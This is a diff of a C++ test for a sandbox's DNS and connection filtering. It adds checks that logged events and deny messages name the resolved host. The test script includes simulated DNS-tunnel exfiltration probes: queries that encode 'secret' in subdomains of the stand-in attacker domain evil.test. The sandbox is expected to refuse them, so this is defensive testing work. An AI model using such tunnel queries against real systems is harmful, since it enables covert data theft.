@@ -310,11 +310,13 @@ TEST_P(Dns, NamesDecideWhatResolvesAndWhatConnects) {
   std::string script = probe("connect tcp " + hp + P) + probe("dns udp 203.0.113.5 " + t + "-u.ok.test") +
                        probe("connect tcp " + hp + P) + probe("connect tcp " + hp + std::to_string(other_port_)) +
                        probe("dns udpconn 198.51.100.7 " + t + "-secret.evil.test") +
-                       probe("dns tcp 203.0.113.5 " + t + "-t.ok.test") + probe("dns udp 203.0.113.5 " + t + ".lo.test") +
+                       probe("dns tcp 203.0.113.5 " + t + "-t.ok.test") +
+                       probe("dns udp 203.0.113.5 " + t + ".lo.test") +
                        probe("connect tcp 127.0.0.1 " + std::to_string(lo_port_)) +
                        probe("dns udp 203.0.113.5 m" + t + ".lo.test aaaa") +
                        probe("connect tcp 127.0.0.1 " + std::to_string(lo_port_)) +
-                       probe("dns udp 203.0.113.5 blocked.ok.test") + "getent ahostsv4 " + t + "-g.ok.test | head -n 1; " +
+                       probe("dns udp 203.0.113.5 blocked.ok.test") +
+                       "getent ahostsv4 " + t + "-g.ok.test | head -n 1; " +
                        // A tunnel: 40 encoded names, each refused, none sent on.
                        "for i in $(seq 1 40); do " + probe("dns udp 203.0.113.5 ${i}c2VjcmV0.t.evil.test") +
                        "done | grep -c 'dns rcode 5'; " + probe("dns udp 203.0.113.5 x.kill.test") +
@@ -374,7 +376,15 @@ TEST_P(Dns, NamesDecideWhatResolvesAndWhatConnects) {
   // learned address.
   auto n = events("--kind=net");
   EXPECT_NE(n.find("\"address\":\"198.51.100.7\",\"port\":53},\"dns_redirected\":true"), std::string::npos) << n;
-  EXPECT_NE(n.find("\"address\":\"" + host_ + "\",\"port\":" + P + "},\"learned\":true"), std::string::npos) << n;
+  const std::string named =
+      "\"address\":\"" + host_ + "\",\"port\":" + P + "},\"learned\":true,\"name\":\"" + t + "-u.ok.test\"";
+  EXPECT_NE(n.find(named), std::string::npos)
+      << n;
+  // Violations name it too; the connect made before the name resolved does not.
+  EXPECT_NE(r.err.find("deny connect " + t + "-u.ok.test (" + host_ + ":" + std::to_string(other_port_) + ")/tcp"),
+            std::string::npos)
+      << r.err;
+  EXPECT_NE(r.err.find("deny connect " + host_ + ":" + P + "/tcp"), std::string::npos) << r.err;
 }
 
 // A learned address is connectable for the answer's TTL plus the grace, then not (a fresh
